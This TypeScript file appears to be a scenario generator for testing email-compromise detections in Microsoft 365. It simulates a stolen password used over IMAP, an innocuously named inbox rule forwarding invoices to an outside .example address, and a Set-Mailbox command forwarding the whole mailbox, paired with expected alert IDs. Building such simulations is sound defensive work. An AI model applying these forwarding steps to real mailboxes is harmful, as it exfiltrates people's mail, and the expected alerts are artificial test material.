import { MINUTE } from '../calendar.ts';
import { GUESSING_HOSTING } from '../data/networks.ts';
import { personOf } from '../draft.ts';
import { addCmdlet } from '../exchange-audits.ts';
import { addRule, recipient } from '../inbox-rules.ts';
import { hostingPlace } from '../places.ts';
import { readByImap } from './intrusion.ts';
import type { StoryTeller } from './story.ts';
import { AUDITED, DAILY } from './story.ts';

/**
 * In the tenant without Entra ID P1 Graph shows nobody's sign-ins. The unified audit log does, an hour later: the stolen
 * password is seen to be used by an old mail protocol (that it came from abroad is not: these addresses belong to
 * documentation and are in no country). The rule that is left behind has an ordinary name (stories.md 7, 21; ATT&CK
 * T1114.003); that the whole mailbox is forwarded as well has no detection yet.
 */
export const FORWARDING_UNSEEN: StoryTeller = {
  title: 'mailbox read by an old protocol, rule forwards outside; no Entra ID P1',
  cast: 'nordlicht',
  daysBefore: 3,
  tell(draft, hour, draw) {
    const victim = personOf(draft, 'ohlsen');
    const at = hour(9) + draw.int(0, 300) * MINUTE;
    const collector = 's.ohlsen.ablage@freepost.example';
    const rule = {
      displayName: 'Rechnungen ablegen',
      conditions: { subjectContains: ['Rechnung', 'Mahnung', 'Angebot'] },
      actions: { forwardTo: [recipient(collector, collector)] },
    };
    const place = hostingPlace(draw.fork('network').pick(GUESSING_HOSTING), draw.fork('place'));
    const entry = readByImap(draft, { person: victim, place, at: at - 20 * MINUTE }, draw.fork('entry'));
    const { id } = addRule(draft, victim, at, rule, draw.fork('forward'), place.ipAddress);
    const forwarding = {
      at: at + 6 * MINUTE,
      person: victim,
      operation: 'Set-Mailbox',
      parameters: [
        ['Identity', victim.upn],
        ['ForwardingSmtpAddress', `smtp:${collector}`],
        ['DeliverToMailboxAndForward', 'True'],
      ] as const,
      ipAddress: place.ipAddress,
    };
    const whole = addCmdlet(draft, forwarding, draw.fork('whole mailbox'));
    return [
      { at: entry.at, recordId: entry.id, expect: ['SI-29'], bySeconds: AUDITED },
      { at, recordId: id, expect: ['MB-01'], bySeconds: DAILY },
      { at: whole.at, recordId: whole.id, expect: [], bySeconds: AUDITED },
    ];
  },
};
